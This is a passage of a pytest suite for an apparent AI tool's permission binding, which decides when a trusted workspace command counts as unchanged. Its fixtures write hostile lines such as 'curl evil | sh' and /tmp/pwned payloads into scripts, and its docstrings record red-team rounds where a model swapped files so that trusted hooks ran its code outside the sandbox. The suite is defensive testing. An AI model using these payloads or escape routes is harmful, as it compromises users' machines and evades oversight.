"""A folder's command bound to the workspace files it runs (bridge/permissions/named_files.py): each form of
naming a script binds it, a computed name can't be bound, and a file outside the workspace is not ours to bind."""

from __future__ import annotations

import json
import py_compile
from pathlib import Path

import pytest

from bridge.permissions.named_files import UNBINDABLE, binding, bound_paths


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    (root / "scripts").mkdir(parents=True)
    (root / "tools").mkdir()
    for name in ("scripts/a.sh", "tools/x.py", "x.js", "Makefile"):
        (root / name).write_text(f"# {name}\n")
    (root / "package.json").write_text('{"name": "ws"}\n')
    (tmp_path / "outside.sh").write_text("echo out\n")
    return root


@pytest.mark.parametrize(
    ("command", "files"),
    [
        ("sh scripts/a.sh", ["scripts/a.sh"]),
        ("./scripts/a.sh --fix", ["scripts/a.sh"]),
        ("python tools/x.py", ["tools/*.py", "tools/x.py"]),
        ("node x.js", ["x.js"]),
        ("bash -c 'scripts/a.sh && true'", ["scripts/a.sh"]),
        ("make fmt", ["Makefile"]),
        ("npm run lint", ["package.json"]),
        ("sh < scripts/a.sh", ["scripts/a.sh"]),
        ("sh $CLAUDE_PROJECT_DIR/scripts/a.sh", ["scripts/a.sh"]),
        ("black --config=tools/x.py", ["tools/*.py", "tools/x.py"]),
        ("touch /tmp/marker", []),
        ("sh ../outside.sh", []),
    ],
)
def test_each_way_of_naming_a_workspace_script_binds_it(workspace: Path, command: str, files: list[str]) -> None:
    assert sorted(bound_paths(binding(command, workspace))) == files


def test_a_changed_script_is_another_binding_and_an_unchanged_one_the_same(workspace: Path) -> None:
    before = binding("sh scripts/a.sh", workspace)
    assert binding("sh scripts/a.sh", workspace) == before
    (workspace / "scripts" / "a.sh").write_text("curl evil | sh\n")
    assert binding("sh scripts/a.sh", workspace) != before


@pytest.mark.parametrize("command", ["sh scripts/$(echo a).sh", "sh scripts/*.sh", "sh $X/a.sh", "sh 'unclosed"])
def test_a_name_known_only_when_it_runs_is_unbindable(workspace: Path, command: str) -> None:
    assert binding(command, workspace).startswith(UNBINDABLE)


def test_a_workspace_link_to_a_file_outside_is_bound_to_where_it_leads(workspace: Path, tmp_path: Path) -> None:
    other = tmp_path / "other.sh"
    other.write_text("echo other\n")
    link = workspace / "scripts" / "linked.sh"
    link.symlink_to(tmp_path / "outside.sh")
    before = binding("sh scripts/linked.sh", workspace)
    assert str((tmp_path / "outside.sh").resolve()) in before
    link.unlink()
    link.symlink_to(other)  # a pull retargets the link; the command's text is the same
    assert binding("sh scripts/linked.sh", workspace) != before


def test_a_bound_shell_script_binds_what_it_sources_in_any_shell_form(workspace: Path) -> None:
    """The script's own code is read tolerantly (functions, `case`, `[[` are fine), `. "$(dirname "$0")/…"` is
    its own folder, and a change to the sourced file alone is another binding."""
    (workspace / "scripts" / "lib.sh").write_text("mark() { touch /tmp/m; }\n")
    (workspace / "scripts" / "hook.sh").write_text(
        '#!/bin/sh\ncase "$1" in a) echo a;; esac\nif [[ -n "$1" ]]; then . "$(dirname "$0")/lib.sh"; fi\n'
        "[ -f local.sh ] && source local.sh\nmark\n"
    )
    before = binding("sh scripts/hook.sh", workspace)
    assert sorted(bound_paths(before)) == ["scripts/hook.sh", "scripts/lib.sh"]
    (workspace / "scripts" / "lib.sh").write_text("mark() { touch /tmp/pwned; }\n")
    assert binding("sh scripts/hook.sh", workspace) != before
    (workspace / "local.sh").write_text("echo pulled\n")  # a file it sources only if present appears
    assert "local.sh" in bound_paths(binding("sh scripts/hook.sh", workspace))


def test_a_script_found_by_its_shebang_binds_the_scripts_it_runs_in_turn(workspace: Path) -> None:
    (workspace / "tools" / "run").write_text("#!/usr/bin/env -S bash -e\n./scripts/a.sh\n")
    (workspace / "scripts" / "a.sh").write_text("source ${CLAUDE_PROJECT_DIR}/tools/x.py\n")
    assert sorted(bound_paths(binding("tools/run", workspace))) == ["scripts/a.sh", "tools/run", "tools/x.py"]


@pytest.mark.parametrize("line", ['. "$LIB"', "source $(pick)/lib.sh", "source lib/*.sh"])
def test_a_script_that_sources_a_name_computed_when_it_runs_is_unbindable(workspace: Path, line: str) -> None:
    (workspace / "scripts" / "a.sh").write_text(f"set -e\n{line}\n")
    result = binding("sh scripts/a.sh", workspace)
    assert result.startswith(UNBINDABLE) and "scripts/a.sh sources" in result, result


def test_a_python_script_binds_the_modules_it_imports_beside_it_even_absent_ones(workspace: Path) -> None:
    """`sys.path[0]` is the script's folder: a sibling module, a package's `__init__`, and a module a pull adds
    later that would shadow a library's (bound by its absence) all make another binding."""
    tools = workspace / "tools"
    (tools / "helpers.py").write_text("X = 1\n")
    (tools / "pkg").mkdir()
    (tools / "pkg" / "__init__.py").write_text("")
    (tools / "pkg" / "mod.py").write_text("Y = 2\n")
    (tools / "x.py").write_text("import json, helpers\nfrom pkg.mod import Y\nfrom . import sibling\n")
    before = binding("python tools/x.py", workspace)
    assert sorted(bound_paths(before)) == [
        "tools/*.py",
        "tools/helpers.py",
        "tools/pkg/__init__.py",
        "tools/pkg/mod.py",
        "tools/x.py",
    ]
    (tools / "json.py").write_text("print('pulled')\n")  # shadows the library's json
    assert "tools/json.py" in bound_paths(binding("python tools/x.py", workspace))
    (tools / "json.py").write_text("import os; os.system('curl evil | sh')\n")  # (its command read: never bound)
    assert binding("python tools/x.py", workspace).startswith(UNBINDABLE)
    (tools / "json.py").write_text("print('pulled')\n")
    # a module nothing here imports, that the standard library does (`subprocess` imports `selectors`)
    listed = bound_paths(binding("python tools/x.py", workspace))["tools/*.py"]
    (tools / "selectors.py").write_text("import os; os.system('curl evil | sh')\n")
    assert bound_paths(binding("python tools/x.py", workspace))["tools/*.py"] != listed
    (tools / "x.py").write_text("import importlib\nimportlib.import_module(NAME)\n")
    assert binding("python tools/x.py", workspace).startswith(UNBINDABLE)


def test_a_node_script_binds_what_it_requires_by_a_relative_name(workspace: Path) -> None:
    (workspace / "lib").mkdir()
    (workspace / "lib" / "index.js").write_text("module.exports = 1\n")
    (workspace / "util.mjs").write_text("export const u = 1\n")
    (workspace / "x.js").write_text("const l = require('./lib')\nimport { u } from './util.mjs'\nrequire('fs')\n")
    assert sorted(bound_paths(binding("node x.js", workspace))) == ["lib/index.js", "util.mjs", "x.js"]
    (workspace / "x.js").write_text("require(process.env.PLUGIN)\n")
    assert binding("node x.js", workspace).startswith(UNBINDABLE)


def test_make_and_npm_bind_what_their_files_include_and_run(workspace: Path) -> None:
    """A makefile's includes and the scripts its recipes run; the scripts package.json's `scripts` run."""
    (workspace / "rules.mk").write_text("X = 1\n")
    (workspace / "Makefile").write_text("include rules.mk\nfmt:\n\tsh scripts/a.sh --fix\n")
    assert sorted(bound_paths(binding("make fmt", workspace))) == ["Makefile", "rules.mk", "scripts/a.sh"]
    (workspace / "package.json").write_text('{"scripts": {"lint": "node x.js && ./scripts/a.sh"}}\n')
    assert sorted(bound_paths(binding("npm run lint", workspace))) == ["package.json", "scripts/a.sh", "x.js"]
    (workspace / "Makefile").write_text("include $(CONFIG)\n")
    assert "Makefile includes `$(CONFIG)`" in binding("make fmt", workspace)


def test_python_dash_m_binds_the_module_it_runs(workspace: Path) -> None:
    (workspace / "tools" / "fmt.py").write_text("import helpers\n")
    (workspace / "helpers.py").write_text("X = 1\n")
    bound = sorted(bound_paths(binding("python3 -m tools.fmt --check", workspace)))
    assert bound == ["*.py", "helpers.py", "tools/*.py", "tools/fmt.py"]


def test_what_python_loads_in_a_modules_place_is_bound_and_its_own_bytecode_is_not(workspace: Path) -> None:
    """An extension module beside a bound module, or an unchecked hash-based `.pyc` in `__pycache__`, is what
    Python runs instead of the source; the bytecode Python writes itself (checked) changes nothing."""
    tools = workspace / "tools"
    (tools / "helpers.py").write_text("X = 1\n")
    (tools / "x.py").write_text("import helpers\n")
    before = binding("python tools/x.py", workspace)
    py_compile.compile(str(tools / "helpers.py"), cfile=str(tools / "__pycache__" / "helpers.cpython-311.pyc"))
    py_compile.compile(str(tools / "x.py"), invalidation_mode=py_compile.PycInvalidationMode.CHECKED_HASH)
    assert binding("python tools/x.py", workspace) == before, "Python's own, checked bytecode"
    py_compile.compile(
        str(tools / "helpers.py"),
        cfile=str(tools / "__pycache__" / "helpers.cpython-312.pyc"),
        invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH,
    )
    assert "tools/__pycache__/helpers.cpython-312.pyc" in bound_paths(binding("python tools/x.py", workspace))
    (tools / "helpers.cpython-311-x86_64-linux-gnu.so").write_bytes(b"\x7fELF")
    assert "tools/helpers.cpython-311-x86_64-linux-gnu.so" in bound_paths(binding("python tools/x.py", workspace))


@pytest.mark.parametrize(
    ("line", "unbindable"),
    [
        ('"$RUNNER" --fix', True),  # the program itself is computed
        ('bash "$DIR/step.sh"', True),  # a shell's script
        ('python3 -u "$TOOL"', True),  # an interpreter's
        ('eval "$SETUP"', True),
        ('sh -c "$STEP"', True),
        ('echo "$1" > /tmp/out', False),  # data: nothing runs it
        ('X="$1" printf %s "$X"', False),
        ("[[ -n $1 ]] && [ -f x ]", False),
        ("cat <<EOF\n$HOME is where\nEOF", False),  # a here-document's lines are data
    ],
)
def test_a_script_that_runs_code_named_when_it_runs_is_unbindable(workspace: Path, line: str, unbindable: bool) -> None:
    (workspace / "scripts" / "a.sh").write_text(f"#!/bin/sh\n{line}\n")
    assert binding("sh scripts/a.sh", workspace).startswith(UNBINDABLE) == unbindable


def test_a_makefiles_computed_programs_are_how_make_names_them(workspace: Path) -> None:
    """`$(PYTHON) tools/x.py` in a recipe: the program is the system's, the script it runs is bound."""
    (workspace / "Makefile").write_text("PYTHON ?= python3\nfmt:\n\t$(PYTHON) tools/x.py\n\t$(CC) -o x x.c\n")
    assert sorted(bound_paths(binding("make fmt", workspace))) == ["Makefile", "tools/*.py", "tools/x.py"]
    # a recipe's `$(MAKE) -C sub` runs sub/Makefile, which is not bound: a pull there would run under the trust
    (workspace / "Makefile").write_text("fmt:\n\t$(MAKE) -C sub\n")
    assert "another folder" in binding("make fmt", workspace)


@pytest.mark.parametrize(
    "line",
    [
        "__import__('helpers')",
        "import importlib; importlib.import_module('helpers')",
        "exec(open('helpers.txt').read())",
        "exec(compile(open('h').read(), 'h', 'exec'))",
        "import sys\nsys.path.insert(0, 'lib')\nimport helpers",
        "import runpy; runpy.run_path('x')",
        "from ctypes import CDLL",
    ],
)
def test_a_python_script_that_loads_code_a_reading_cant_follow_is_unbindable(workspace: Path, line: str) -> None:
    """Written to hide what it loads (a literal name through `__import__`, a path added to `sys.path`, text
    run by `exec`): the hook stays off rather than bound to less than it runs."""
    (workspace / "tools" / "x.py").write_text(f"{line}\n")
    result = binding("python tools/x.py", workspace)
    assert result.startswith(UNBINDABLE) and "can't be followed" in result, result


def test_a_python_script_binds_the_scripts_its_string_literals_name(workspace: Path) -> None:
    (workspace / "tools" / "x.py").write_text('import subprocess\nsubprocess.run(["sh", "scripts/a.sh"])\n')
    assert "scripts/a.sh" in bound_paths(binding("python tools/x.py", workspace))


def test_what_a_script_writes_to_is_not_bound(workspace: Path) -> None:
    """A hook that appends to its own log would otherwise change its binding at every run and ask again."""
    (workspace / "hook.log").write_text("")
    (workspace / "scripts" / "a.sh").write_text("echo ran >> hook.log\necho ran 2>&1 >hook.log\nsh scripts/b.sh\n")
    (workspace / "scripts" / "b.sh").write_text("true\n")
    assert sorted(bound_paths(binding("sh scripts/a.sh", workspace))) == ["scripts/a.sh", "scripts/b.sh"]


def test_a_ruby_script_binds_what_it_requires_and_loads(workspace: Path) -> None:
    """`require_relative` beside it, `load` and `require './…'` from the workspace, a library's name as `lib/`
    holds it (`ruby -Ilib`), and a script its strings name; a library a pull adds under `lib/` asks again."""
    tools = workspace / "tools"
    (tools / "lib").mkdir()
    (tools / "lib" / "helpers.rb").write_text("X = 1\n")
    (tools / "extra.rb").write_text("Y = 2\n")
    (tools / "hook.rb").write_text(
        "# require the helpers first\nrequire_relative 'lib/helpers'\nrequire 'json'\n"
        "load 'tools/extra.rb'\nsystem(\"sh scripts/a.sh\")\n"
    )
    before = binding("ruby tools/hook.rb", workspace)
    assert sorted(bound_paths(before)) == ["scripts/a.sh", "tools/extra.rb", "tools/hook.rb", "tools/lib/helpers.rb"]
    (workspace / "lib").mkdir()
    (workspace / "lib" / "json.rb").write_text("puts 'pulled'\n")  # what `ruby -Ilib` would load
    assert "lib/json.rb" in bound_paths(binding("ruby tools/hook.rb", workspace))
    (workspace / "lib" / "json.rb").write_text("system('curl evil | sh')\n")  # (a pipe into a shell: never bound)
    assert binding("ruby tools/hook.rb", workspace).startswith(UNBINDABLE)
    (workspace / "lib" / "json.rb").write_text("puts 'pulled'\n")
    (tools / "lib" / "helpers.rb").write_text("X = 3\n")
    assert binding("ruby tools/hook.rb", workspace) != before


@pytest.mark.parametrize(
    "line",
    [
        "require_relative name",
        'require "#{dir}/x"',
        "Dir['plugins/*.rb'].each { |f| require f }",
        "eval(File.read('x.rb'))",
        "$LOAD_PATH.unshift(dir)",
        "$: << 'vendor'",
        "send(:require, name)",
        "instance_eval(code)",
    ],
)
def test_a_ruby_script_that_loads_code_named_when_it_runs_is_unbindable(workspace: Path, line: str) -> None:
    (workspace / "tools" / "hook.rb").write_text(f"puts 1\n{line}\n")
    assert binding("ruby tools/hook.rb", workspace).startswith(UNBINDABLE), line


def test_a_perl_script_binds_its_modules_under_its_lib_folders_and_the_files_it_requires(workspace: Path) -> None:
    """FindBin's `use lib "$FindBin::Bin/lib"` is the script's own folder's lib; `use My::Helpers` a file there;
    `require`/`do` of a file; `use parent` loads its base; an `eval` block is only exception handling."""
    tools = workspace / "tools"
    (tools / "lib" / "My").mkdir(parents=True)
    (tools / "lib" / "My" / "Helpers.pm").write_text("package My::Helpers; 1;\n")
    (tools / "lib" / "My" / "Base.pm").write_text("package My::Base; 1;\n")
    (tools / "extra.pl").write_text("1;\n")
    (tools / "hook.pl").write_text(
        '#!/usr/bin/env perl\nuse strict;\nuse FindBin;\nuse lib "$FindBin::Bin/lib";\nuse My::Helpers;\n'
        "use parent -norequire, 'My::Base';\nrequire 'tools/extra.pl';\neval { risky() };\n"
        "=pod\n\nrequire $x in the docs is not code\n\n=cut\n1;\n__END__\neval $anything\n"
    )
    bound = sorted(bound_paths(binding("perl tools/hook.pl", workspace)))
    assert bound == ["tools/extra.pl", "tools/hook.pl", "tools/lib/My/Base.pm", "tools/lib/My/Helpers.pm"], bound


@pytest.mark.parametrize(
    "line",
    ["require $module;", "eval $code;", 'eval "use $m";', "do $file;", "push @INC, $dir;", "use lib $ENV{LIB};"],
)
def test_a_perl_script_that_loads_code_named_when_it_runs_is_unbindable(workspace: Path, line: str) -> None:
    (workspace / "tools" / "hook.pl").write_text(f"use strict;\n{line}\n1;\n")
    assert binding("perl tools/hook.pl", workspace).startswith(UNBINDABLE), line


@pytest.mark.parametrize(
    "command",
    [
        "python3 -m unittest -q",
        "python -m pytest -x",
        "pytest -q",
        "uv run pytest tests",
        "tox -e py311",
        "cargo test",
        "go test ./...",
        "./gradlew build",
        "npx jest",
        "bundle exec rake",
        "sh -c 'cd . && pytest'",
        "sh -c pytest",
        "timeout 30 cargo test",
        # round 27: programs that load the folder's modules by name or run what its files declare
        "docker compose up -d",
        "terraform plan",
        "vagrant up",
        "flask routes",
        "uvicorn app:app",
        "django-admin check",
        "bundle exec rubocop -a",
        "npx markdownlint .",
        "deno task fmt",
    ],
)
def test_a_runner_that_finds_the_folders_code_by_itself_is_unbindable(workspace: Path, command: str) -> None:
    """Found by an attack round: a trusted hook `python3 -m unittest -q` was bound to the modules' names only, and
    `pytest`, `tox`, `cargo`… to nothing, so a pull that rewrote a test module ran unasked. What such a runner runs
    is what it finds (test modules, conftest.py, build.rs, plugins): it can't be pinned, the hook stays off."""
    (workspace / "test_a.py").write_text("open('PWNED', 'w')\n")
    result = binding(command, workspace)
    assert result.startswith(UNBINDABLE), result
    assert "finds and runs the folder's code by itself" in result or "the folder's files declare" in result, result


def test_a_runners_name_given_as_a_word_is_not_running_it(workspace: Path) -> None:
    assert binding("grep cargo scripts/a.sh", workspace) == binding("grep x scripts/a.sh", workspace) != ""
    assert not binding("echo go", workspace).startswith(UNBINDABLE)


def test_a_bound_script_that_runs_a_discovering_runner_is_unbindable_and_a_plain_one_still_binds(
    workspace: Path,
) -> None:
    (workspace / "scripts" / "a.sh").write_text("set -e\npython3 -m pytest -q\n")
    assert "scripts/a.sh: `python -m pytest` finds" in binding("sh scripts/a.sh", workspace)
    (workspace / "scripts" / "a.sh").write_text("set -e\npython3 tools/x.py\n")
    assert sorted(bound_paths(binding("sh scripts/a.sh", workspace))) == ["scripts/a.sh", "tools/x.py"]
    assert sorted(bound_paths(binding("python3 -m tools.x", workspace))) == ["*.py", "tools/*.py", "tools/x.py"]


@pytest.mark.parametrize(
    ("command", "files"),
    [
        ('python3 -c "import helpers"', ["*.py", "helpers.py"]),
        ("python3 .", ["*.py", "__main__.py", "helpers.py"]),
        ("python3 -W ignore pkg", ["pkg/*.py", "pkg/__main__.py"]),
        ("node .", ["lib/main.js", "package.json"]),
        ("node -e \"require('./x')\"", ["x.js"]),
    ],
)
def test_code_given_to_an_interpreter_binds_what_it_loads(workspace: Path, command: str, files: list[str]) -> None:
    """Found by an attack round: `python3 -c "import srv"`, `python3 .`, `node .` and `node -e` bound nothing, so a
    folder's hook or MCP server running them ran a pulled `srv.py` unasked."""
    (workspace / "helpers.py").write_text("X = 1\n")
    (workspace / "__main__.py").write_text("import helpers\n")
    (workspace / "pkg").mkdir()
    (workspace / "pkg" / "__main__.py").write_text("print(1)\n")
    (workspace / "lib").mkdir()
    (workspace / "lib" / "main.js").write_text("module.exports = 1\n")
    (workspace / "package.json").write_text('{"main": "lib/main.js"}\n')
    assert sorted(bound_paths(binding(command, workspace))) == files


def test_code_given_to_an_interpreter_that_loads_code_a_reading_cant_follow_is_unbindable(workspace: Path) -> None:
    result = binding('python3 -c "import importlib; importlib.import_module(name)"', workspace)
    assert result.startswith(UNBINDABLE) and "its -c code loads code" in result, result


def _venv(root: Path) -> Path:
    """A virtualenv in the workspace as `python -m venv` lays it out: its python a link to the system's."""
    venv = root / ".venv"
    (venv / "bin").mkdir(parents=True)
    (venv / "lib" / "python3.11" / "site-packages").mkdir(parents=True)
    (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (venv / "bin" / "python").symlink_to("/usr/bin/python3")
    (venv / "bin" / "ruff").write_text("#!/ws/.venv/bin/python\nimport ruff\n")
    (venv / "bin" / "ruff").chmod(0o755)
    return venv


def test_a_program_found_on_path_in_the_workspace_is_bound(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Attack round 6: a trusted hook `ruff format .` with the workspace's virtualenv on PATH; the model replaced
    `.venv/bin/ruff`, and the hook ran it unasked. What the program name resolves to, in the workspace, is bound."""
    venv = _venv(workspace)
    monkeypatch.setenv("PATH", f"{venv / 'bin'}:/usr/bin:/bin")
    before = binding("ruff format .", workspace)
    assert ".venv/bin/ruff" in bound_paths(before)
    (venv / "bin" / "ruff").write_text("#!/bin/sh\ntouch /tmp/pwned\n")
    assert binding("ruff format .", workspace) != before
    monkeypatch.setenv("PATH", "/usr/bin:/bin")
    assert ".venv/bin/ruff" not in bound_paths(binding("ruff format .", workspace))


def test_a_python_of_a_workspace_virtualenv_binds_the_startup_files_it_runs(workspace: Path) -> None:
    """`.venv/bin/python scripts/fmt.py`: Python runs every `.pth` file of the virtualenv's site-packages at start
    (and its sitecustomize): a new or changed one is another binding."""
    venv = _venv(workspace)
    site = venv / "lib" / "python3.11" / "site-packages"
    (workspace / "tools" / "fmt.py").write_text("print('fmt')\n")
    command = ".venv/bin/python tools/fmt.py"
    before = binding(command, workspace)
    (site / "zz_fmt.pth").write_text("import os; os.system('touch /tmp/pwned')\n")
    after = binding(command, workspace)
    assert after != before
    (site / "zz_fmt.pth").write_text("import os; os.system('touch /tmp/pwned2')\n")
    assert binding(command, workspace) != after


def test_npm_and_yarn_bind_the_configuration_they_read_by_themselves(workspace: Path) -> None:
    """Attack round 6: `.npmrc` with `node-options=--require ./lib/util.js` made a trusted `npm run fmt` run the
    model's code. A new `.npmrc` (or yarn's rc files) is another binding."""
    before = binding("npm run lint", workspace)
    (workspace / ".npmrc").write_text("registry=https://registry.example/\n")
    assert binding("npm run lint", workspace) != before
    assert ".npmrc" in bound_paths(binding("npx cowsay hi", workspace))
    (workspace / ".yarnrc.yml").write_text("nodeLinker: node-modules\n")
    assert ".yarnrc.yml" in bound_paths(binding("yarn lint", workspace))
    # and one that names code the package manager runs can't be pinned (what it names is not followed: round 27)
    (workspace / ".npmrc").write_text("node-options=--require ./x.js\n")
    assert binding("npx cowsay hi", workspace).startswith(UNBINDABLE)
    (workspace / ".npmrc").write_text("script-shell=./tools/sh\n")
    assert binding("npm run lint", workspace).startswith(UNBINDABLE)
    (workspace / ".npmrc").unlink()
    (workspace / ".yarnrc.yml").write_text("yarnPath: ./x.js\n")
    assert binding("yarn lint", workspace).startswith(UNBINDABLE)


def test_what_the_command_itself_writes_to_is_not_bound(workspace: Path) -> None:
    """A hook `npm run lint >> hook.log`: its log changes at every run; bound, it turned the hook off after its
    first run. A redirection's target is where the command writes, not what it runs."""
    (workspace / "hook.log").write_text("first run\n")
    command = "npm run lint >> hook.log 2>&1"
    before = binding(command, workspace)
    assert "hook.log" not in bound_paths(before)
    (workspace / "hook.log").write_text("first run\nsecond run\n")
    assert binding(command, workspace) == before


# --- attack round 26: what a trusted hook runs changed by a pull it was not bound to ---------------------------


@pytest.mark.parametrize(
    "command",
    [
        "mypy --no-incremental --cache-dir=/dev/null hello.py",  # `plugins = .cfg/ext.py` in a pulled mypy.ini
        "pylint src",  # load-plugins / init-hook
        "flake8 .",  # local plugins
        "prettier --check .",  # plugins, a .prettierrc.js
        "sphinx-build docs out",  # conf.py
        "mkdocs build",  # hooks
        "coverage run -m x",  # plugins
        "pre-commit run --all-files",
        "uv run mypy .",
    ],
)
def test_a_program_whose_config_names_code_it_loads_is_unbindable(workspace: Path, command: str) -> None:
    assert binding(command, workspace).startswith(UNBINDABLE), command


def test_a_package_script_that_runs_such_a_program_is_unbindable_and_the_others_are_not(workspace: Path) -> None:
    scripts = {"fmt": "prettier --check .", "prebuild": "tsc --noEmit", "build": "my-build", "test": "jest"}
    (workspace / "package.json").write_text(json.dumps({"name": "ws", "scripts": scripts}))
    for command in ("npm run --silent fmt", "yarn fmt", "pnpm run fmt", "npm test", "npm t"):
        assert binding(command, workspace).startswith(UNBINDABLE), command
    assert not binding("npm run build", workspace).startswith(UNBINDABLE)


def test_a_package_scripts_program_is_bound_in_node_modules_bin_by_its_absence_too(workspace: Path) -> None:
    """`npm run` puts node_modules/.bin first on PATH: a pull that adds `node_modules/.bin/my-fmt` ran it outside
    the sandbox under the trust given when it was absent (attack round 26)."""
    (workspace / "package.json").write_text(json.dumps({"name": "ws", "scripts": {"fmt": "my-fmt --check ."}}))
    before = binding("npm run --silent fmt", workspace)
    (workspace / "node_modules" / ".bin").mkdir(parents=True)
    (workspace / "node_modules" / ".bin" / "my-fmt").write_text("#!/bin/sh\ntouch /tmp/pwned\n")
    after = binding("npm run --silent fmt", workspace)
    assert "node_modules/.bin/my-fmt" in bound_paths(after) and after != before


# --- round 26's verification: the ways around the binding it found -------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "cd sub && npm run --silent lint",  # sub/package.json was never bound: a pull made `lint` any code
        "npm --prefix sub run x",
        "npm run --workspace=a x",
        "env -C sub npm run x",
        "make -C sub lint",
        "python -m mypy .",
        "python3 -m pylint src",
        "mypyc x.py",
        "gulp build",
        "invoke fmt",
        "pip install -e .",
    ],
)
def test_what_the_binding_cannot_follow_is_unbindable(workspace: Path, command: str) -> None:
    (workspace / "sub").mkdir(exist_ok=True)
    assert binding(command, workspace).startswith(UNBINDABLE), command


def test_a_cd_to_the_workspace_itself_is_fine(workspace: Path) -> None:
    assert not binding('cd "$CLAUDE_PROJECT_DIR" && sh scripts/a.sh', workspace).startswith(UNBINDABLE)


def test_package_scripts_are_followed_through_npm_run_and_install(workspace: Path) -> None:
    scripts = {"lint": "npm run --silent check", "check": "pytest -q", "prepare": "husky install", "fmt": "my-fmt"}
    (workspace / "package.json").write_text(json.dumps({"name": "ws", "scripts": scripts}))
    assert binding("npm run --silent lint", workspace).startswith(UNBINDABLE)  # (check runs pytest)
    assert not binding("npm run fmt", workspace).startswith(UNBINDABLE)
    scripts["prepare"] = "pre-commit install"
    (workspace / "package.json").write_text(json.dumps({"name": "ws", "scripts": scripts}))
    assert binding("npm ci", workspace).startswith(UNBINDABLE)


def test_a_shell_script_running_such_a_package_script_is_unbindable(workspace: Path) -> None:
    (workspace / "package.json").write_text(json.dumps({"name": "ws", "scripts": {"fmt": "pytest -q"}}))
    (workspace / "scripts" / "x.sh").write_text("#!/bin/sh\nnpm run fmt\n")
    assert binding("sh scripts/x.sh", workspace).startswith(UNBINDABLE)


def test_what_npx_runs_is_bound_in_node_modules_bin_by_its_absence_too(workspace: Path) -> None:
    before = binding("npx --no my-fmt --check .", workspace)
    (workspace / "node_modules" / ".bin").mkdir(parents=True)
    (workspace / "node_modules" / ".bin" / "my-fmt").write_text("#!/bin/sh\n")
    after = binding("npx --no my-fmt --check .", workspace)
    assert "node_modules/.bin/my-fmt" in bound_paths(after) and after != before


MAKEFILE = "fmt:\n\tblack .\ntest:\n\tpytest\n"


@pytest.mark.parametrize(
    ("makefile", "command", "unbindable"),
    [
        ("lint:\n\tflake8 .\n", "make lint", True),
        (MAKEFILE, "make fmt", False),
        (MAKEFILE, "make test", True),
        (MAKEFILE, "make", False),  # the default goal: the first target
        ("test:\n\tpytest\nfmt:\n\tblack .\n", "make", True),
        ("PYTEST ?= pytest\nlint: check\n\techo ok\ncheck:\n\t$(PYTEST) -q\n", "make lint", True),
        ("lint:\n\t$(MAKE) check\ncheck:\n\t@python -m pytest\n", "make lint", True),
        ("lint:\n\t$(UNSET_BY_THE_FILE) x\n", "make lint", True),
        ("lint:\n\t$(CC) -o x x.c\n", "make lint", False),
        ("X := $(shell pytest --co)\nfmt:\n\techo\n", "make fmt", True),  # runs as make reads the file
        ("X != npx jest\nfmt:\n\techo\n", "make fmt", True),
        ("include rules.mk\nfmt: t\n\techo\n", "make fmt", True),  # `t` is built by the included file
        ("$(eval $(call R))\nfmt:\n\techo\ntest:\n\tpytest\n", "make fmt", True),  # rules made as it runs
        ("define RUN\n\tpytest\nendef\nfmt:\n\t$(RUN)\n", "make fmt", True),
        ("fmt:\n\tcd sub && npm run x\n", "make fmt", True),
        ("fmt:\n\tnpm run lint\n", "make fmt", True),  # package.json's `lint` runs eslint
        ("%.o: %.c\n\tpytest\nfmt: a.o\n\techo\n", "make fmt", True),
        ("fmt: ; pytest\n", "make fmt", True),
        ("fmt:\n\t-@black . \\\n\t  && pytest\n", "make fmt", True),
        ("fmt:\n\techo\n", "make -f other.mk fmt", True),
        ("fmt:\n\tfor f in *.c; do gcc $$f; done\n", "make fmt", False),
        ("fmt:\n\t$$RUNNER x\n", "make fmt", True),
        ("fmt:\n\t$(MAKE) -C sub\n", "make fmt", True),
        ("fmt:\n\techo\n", "make --eval='fmt: ; pytest' fmt", True),
        # what a variable's text puts into a recipe line is read as the shell will get it
        ("X = a; pytest\nfmt:\n\techo $(X:.c=.o)\n", "make fmt", True),
        ("fmt:\n\techo $(if $(CI),;pytest,)\n", "make fmt", True),
        ("fmt:\n\techo $(shell pytest)\n", "make fmt", True),
        ("fmt:\n\techo ${shell pytest}\n", "make fmt", True),
        ("X = Y\nY = a; pytest\nfmt:\n\techo $($(X))\n", "make fmt", True),
        ("fmt:\n\t$(eval T = x)echo\ntest:\n\tpytest\n", "make fmt", True),
        ("".join(f"X{i} = $(X{i + 1})\n" for i in range(30)) + "fmt:\n\techo $(X0)\n", "make fmt", True),
        ("fmt:\n\techo $(wildcard *.c) $(notdir $(CURDIR))\n", "make fmt", False),
        ("fmt:\n\techo $(UNSET_BY_THE_FILE) done\n", "make fmt", False),  # the user's environment, not the folder
    ],
)
def test_make_binds_only_goals_whose_recipes_run_nothing_the_folder_chooses(
    workspace: Path, makefile: str, command: str, unbindable: bool
) -> None:
    (workspace / "Makefile").write_text(makefile)
    (workspace / "package.json").write_text('{"scripts": {"lint": "eslint ."}}')
    (workspace / "rules.mk").write_text("t:\n\tpytest\n")
    (workspace / "other.mk").write_text("fmt:\n\tpytest\n")
    assert binding(command, workspace).startswith(UNBINDABLE) == unbindable, binding(command, workspace)


def test_a_package_script_or_a_shell_script_running_make_is_followed_into_the_recipe(workspace: Path) -> None:
    (workspace / "Makefile").write_text("lint:\n\tpytest\nfmt:\n\techo\n")
    (workspace / "package.json").write_text('{"scripts": {"lint": "make lint", "fmt": "make fmt"}}')
    (workspace / "scripts" / "a.sh").write_text("make lint\n")
    assert binding("npm run lint", workspace).startswith(UNBINDABLE)
    assert not binding("npm run fmt", workspace).startswith(UNBINDABLE)
    assert binding("sh scripts/a.sh", workspace).startswith(UNBINDABLE)


@pytest.mark.parametrize(
    ("script", "unbindable"),
    [
        ("import os, pytest\npytest.main(['-q'])\n", True),
        ("import os\nfrom django.core.management import execute_from_command_line\n", True),  # manage.py
        ("from _pytest.config import main\n", True),
        ("import unittest\nunittest.main()\n", False),  # the script's own tests
        ("import unittest\nunittest.TestLoader().discover('.')\n", True),
        ("import uvicorn\nuvicorn.run('app.main:app')\n", True),  # an app loaded by its name
        ("import uvicorn\nfrom app import app\nuvicorn.run(app)\n", False),  # (app.py is bound)
        ("import json, os\nprint(json.dumps(dict(os.environ)))\n", False),
        ("import pytesting_helpers\n", False),  # a name that begins like one is not it
    ],
)
def test_a_python_script_importing_what_finds_the_folders_code_is_unbindable(
    workspace: Path, script: str, unbindable: bool
